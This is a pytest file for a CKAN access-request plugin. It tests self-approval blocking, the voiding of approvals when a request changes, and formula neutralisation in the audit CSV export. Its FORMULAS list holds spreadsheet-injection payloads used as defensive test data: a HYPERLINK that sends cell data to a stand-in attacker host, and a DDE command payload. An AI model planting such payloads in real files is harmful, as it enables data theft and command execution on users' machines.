"""Approvals are for the request as it stands, never by the requester
(issue #8, item 6), and the audit export is safe in a spreadsheet (item 7)."""

from __future__ import annotations

import csv
import io

import ckan.plugins.toolkit as tk
import ckan.tests.helpers as helpers
import pytest

from .conftest import REQUEST, act, headers_for


def test_a_requester_who_becomes_an_editor_cannot_approve_their_own_request(
    app, people, datasets, smtp
):
    request = act(
        people["loner"],
        "imnet_access_request_create",
        id=datasets["restricted"]["id"],
        **REQUEST,
    )
    helpers.call_action(
        "organization_member_create",
        id=people["org"]["id"],
        username=people["loner"]["name"],
        role="editor",
    )
    with pytest.raises(tk.NotAuthorized) as raised:
        act(people["loner"], "imnet_access_request_approve", id=request["id"])
    assert "your own request" in str(raised.value)
    shown = act(people["loner"], "imnet_access_request_show", id=request["id"])
    assert "approve" not in shown["allowed_steps"]
    assert shown["allowed_steps"] == ["withdraw"]
    # Nor from the page.
    response = app.post(
        f"/data-requests/{request['id']}/approve",
        headers=headers_for(people["loner"]),
        follow_redirects=False,
    )
    assert response.status_code == 403
    # Their own request is not in their review queue.
    queue = act(people["loner"], "imnet_access_request_list", role="review")
    assert request["id"] not in [r["id"] for r in queue["results"]]
    # The other approvers still decide it.
    approved = act(people["owner"], "imnet_access_request_approve", id=request["id"])
    assert approved["state"] == "approved"


def test_a_changed_request_needs_its_approvals_again(people, datasets, smtp):
    request = act(
        people["outsider"],
        "imnet_access_request_create",
        id=datasets["confidential"]["id"],
        **REQUEST,
    )
    act(people["owner"], "imnet_access_request_approve", id=request["id"])
    act(
        people["mimu"],
        "imnet_access_request_request_info",
        id=request["id"],
        reason="Which camps?",
    )
    answered = act(
        people["outsider"],
        "imnet_access_request_respond",
        id=request["id"],
        answer="All camps, and we will share the data with donors.",
    )
    # The owner approved the old purpose: that approval no longer counts.
    assert answered["owner_approved_by"] is None
    assert answered["state"] == "submitted"
    second = act(people["mimu"], "imnet_access_request_approve", id=request["id"])
    assert second["state"] == "submitted"  # the owner must approve again
    assert second["admin_approved_by"]["name"] == "mimu-admin"
    final = act(people["editor"], "imnet_access_request_approve", id=request["id"])
    assert final["state"] == "approved"
    history = act(people["mimu"], "imnet_access_request_show", id=request["id"])
    events = [e["event"] for e in history["history"]]
    assert "request_approvals_voided" in events


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "=cmd|' /C calc'!A0",
    "\ufeff=1+1",
    " \u200b@SUM(1)",
]


def test_the_audit_export_neutralises_formulas(people, datasets, smtp):
    for reason in FORMULAS:
        request = act(
            people["loner"],
            "imnet_access_request_create",
            id=datasets["restricted"]["id"],
            **REQUEST,
        )
        act(
            people["owner"],
            "imnet_access_request_reject",
            id=request["id"],
            reason=reason,
        )
    text = act(people["mimu"], "imnet_audit_export", event="request_rejected")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][7] == "reason"
    reasons = [row[7] for row in rows[1:]]
    assert len(reasons) == len(FORMULAS)
    # Every cell a spreadsheet would run starts with a quote; the text is kept.
    assert sorted(reasons) == sorted(f"'{r.strip()}" for r in FORMULAS)
    for row in rows[1:]:
        assert len(row) == len(rows[0])
        # A request's events name no resource: the cell is empty, not a quote.
        assert row[5] == ""
        for cell in row:
            assert not cell.lstrip(" \ufeff\u200b").startswith(("=", "+", "-", "@"))
            assert cell != "'"  # an empty cell stays empty
